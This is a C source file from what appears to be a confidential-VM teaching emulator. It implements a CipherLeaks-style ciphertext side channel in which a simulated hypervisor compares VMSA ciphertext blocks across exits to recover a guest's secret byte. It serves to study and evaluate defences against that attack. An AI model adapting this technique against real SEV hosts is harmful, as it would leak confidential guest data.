/*
 * ciphertext-side-channel (cvm-model 7, row 7; CipherLeaks, Li et al. USENIX Security 2021): with
 * register protection the guest's registers are in the encrypted VMSA at every exit, but the
 * hypervisor can still read the VMSA's ciphertext. XEX is deterministic per (key, address), and the
 * VMSA stays at one address, so a 16-byte block of it has the same ciphertext whenever it has the
 * same plaintext (cvm-model 3.2). The block of x28..x31 at VMSA offset 0x70 then repeats exactly
 * when t3 does. One exit with a known t3 (the guest's first, public one) names the two ciphertexts.
 *
 * Integrity does not change the cipher, so SNP does not stop it (SEV-SNP's fix for CipherLeaks is a
 * firmware one: "ciphertext hiding", not modelled). At levels none and enc there is no VMSA: the
 * registers are there to read at every exit, no side channel needed.
 */
#include "hv.h"
#include "secret.h"

#define NAME "ciphertext-side-channel"
#define REG_T3 28
#define SLOT 0x70u /* VMSA bytes 0x70..0x7f: x28..x31 (word i = xi, emulator/cvm/README.md) */
#define EXITS 9

static void attack(enum level level) {
  struct guest g;
  if (guest_launch(&g, level, level + 1, NAME) != SP_SUCCESS) return;
  u8 seen[EXITS][16];
  u32 t3[EXITS];
  for (u32 i = 0; i < EXITS; i++) {
    if (guest_run_to_step(&g, 1 + i) != 0) {
      result(NAME, level, "ERROR", "the guest did not reach step %u", 1 + i);
      return;
    }
    t3[i] = g.vcpu.regs[REG_T3];
    if (g.vmsa) memcpy(seen[i], (const u8 *)g.vmsa + SLOT, 16); /* the attack: a load from the VMSA page */
  }

  u32 byte = 0, plain = 0, distinct = 0;
  for (u32 i = 0; i < EXITS; i++) {
    if (i > 0) {
      plain = (plain << 1) | (t3[i] & 1);
      byte = (byte << 1) | (memcmp(seen[i], seen[0], 16) != 0); /* not the public exit's ciphertext: 1 */
    }
    u32 fresh = 1;
    for (u32 j = 0; j < i; j++) fresh &= memcmp(seen[i], seen[j], 16) != 0;
    distinct += fresh;
  }
  if (!g.vmsa) {
    hv_printf("[hv] t3 at the exits: %u, then %u%u%u%u%u%u%u%u\n", t3[0], t3[1], t3[2], t3[3], t3[4], t3[5], t3[6],
              t3[7], t3[8]);
    if (plain == SECRET_BYTE)
      result(NAME, level, "SUCCEEDED", "no VMSA: t3 is in plain view at every exit; the secret byte is %x", plain);
    else
      result(NAME, level, "ERROR", "read %x from t3", plain);
  } else {
    hv_printf("[hv] t3 at the exits reads %u (cleared); VMSA bytes 0x70..0x7f at host %x across the exits:\n", t3[1],
              (u32)(uintptr_t)g.vmsa + SLOT);
    for (u32 i = 0; i < EXITS; i++) {
      hv_printf("[hv]   exit %u: ", i + 1);
      hv_hex(seen[i], 16);
      hv_printf(i == 0 ? "  (t3 = 0: the public exit)\n" : "  -> bit %u\n", (byte >> (8 - i)) & 1);
    }
    if (byte == SECRET_BYTE && distinct == 2)
      result(NAME, level, "NOT-STOPPED", "equal plaintext gives equal ciphertext: 2 ciphertexts of the VMSA slot of t3 gave away the secret byte %x",
             byte);
    else
      result(NAME, level, "ERROR", "recovered %x from %u distinct ciphertexts", byte, distinct);
  }
  if (!guest_finish(&g)) result(NAME, level, "ERROR", "the guest did not finish");
}

void attack_main(void) {
  hv_printf("[attacks] %s: the hypervisor watches one 16-byte block of the VMSA across exits (cvm-model 7)\n", NAME);
  for (int level = LEVEL_NONE; level < NLEVELS; level++) attack((enum level)level);
}
